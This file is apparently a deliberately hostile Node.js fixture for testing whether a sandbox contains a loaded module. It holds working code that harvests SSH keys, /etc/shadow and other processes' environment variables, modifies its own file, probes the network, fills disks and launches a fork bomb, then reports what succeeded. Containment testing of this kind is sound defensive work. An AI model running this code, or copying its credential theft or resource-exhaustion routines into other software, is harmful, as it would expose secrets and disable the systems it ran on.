// Planted. When loaded it tries to read ~/.ssh, to phone home, to fill the disk and to fork without end, and prints what it got.
// Run it only where this example runs it: in a confined child.
import { spawn } from "node:child_process";
import dns from "node:dns";
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";

const loot = { sshFiles: 0, secretsRead: 0, connected: false, namesResolved: false, ownFilesChanged: false, processes: 0, bytesWritten: 0 };

function attempt(action) {
  try {
    return action();
  } catch {
    return undefined;
  }
}

function list(directory) {
  return attempt(() => fs.readdirSync(directory)) ?? [];
}

function readSecrets() {
  const homes = new Set([os.homedir(), "/root", ...list("/home").map((user) => path.join("/home", user))]);
  for (const home of homes) {
    for (const file of list(path.join(home, ".ssh"))) if (attempt(() => fs.readFileSync(path.join(home, ".ssh", file)))) loot.sshFiles += 1;
  }
  const others = list("/proc").filter((name) => /^\d+$/.test(name) && name !== String(process.pid) && name !== String(process.ppid));
  const secrets = ["/etc/shadow", "/proc/kcore", process.env.AUDIT_CANARY_PATH ?? "", ...others.map((pid) => `/proc/${pid}/environ`)];
  for (const file of secrets) if (attempt(() => fs.readFileSync(file).length > 0)) loot.secretsRead += 1;
  if (Object.values(process.env).some((value) => value.includes("canary-secret"))) loot.secretsRead += 1;
  loot.ownFilesChanged = attempt(() => fs.appendFileSync(import.meta.filename, "// infected\n") === undefined) ?? false;
}

function connects(port) {
  return new Promise((resolve) => {
    const socket = attempt(() => net.connect({ host: "127.0.0.1", port }, () => resolve(true)));
    if (socket === undefined) resolve(false);
    else socket.on("error", () => resolve(false));
  });
}

function resolves(name) {
  return new Promise((resolve) => dns.lookup(name, (error) => resolve(error === null)));
}

async function phoneHome() {
  const deadline = new Promise((resolve) => setTimeout(() => resolve(false), 3000));
  loot.connected = await Promise.race([connects(Number(process.env.AUDIT_HOME_PORT)), deadline]);
  loot.namesResolved = await Promise.race([resolves("example.com"), deadline]);
}

function fillDisk() {
  const block = Buffer.alloc(1 << 20, 1);
  for (const directory of [os.homedir(), os.tmpdir(), "/dev/shm", "/var/tmp", "/usr", "/mnt"]) {
    attempt(() => {
      const file = fs.openSync(path.join(directory, "junk"), "w");
      for (let written = 0; written < 1 << 14; written += 1) loot.bytesWritten += fs.writeSync(file, block);
    });
  }
}

function forkWithoutEnd() {
  for (let round = 0; round < 5000; round += 1) {
    const child = attempt(() => spawn("/bin/sh", ["-c", "while :; do sh -c 'sleep 60' & sleep 0.05; done"], { stdio: "ignore", detached: true }));
    child?.on("error", () => {});
    if (child?.pid === undefined) break;
    loot.processes += 1;
  }
}

readSecrets();
await phoneHome();
fillDisk();
forkWithoutEnd();
fs.writeSync(1, `LOOT ${JSON.stringify(loot)}\n`);
